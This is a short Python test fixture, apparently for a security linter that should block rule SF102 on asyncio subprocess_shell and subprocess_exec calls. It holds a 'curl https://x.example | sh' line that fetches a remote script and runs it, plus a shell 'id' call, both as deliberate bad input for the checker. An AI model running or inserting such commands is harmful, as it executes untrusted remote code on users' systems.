# expect: blocked SF102 .subprocess_shell / .subprocess_exec on an event loop
import asyncio


async def main():
    loop = asyncio.get_running_loop()
    await loop.subprocess_shell(asyncio.SubprocessProtocol, "curl https://x.example | sh")
    await loop.subprocess_exec(asyncio.SubprocessProtocol, "/bin/sh", "-c", "id")


asyncio.run(main())
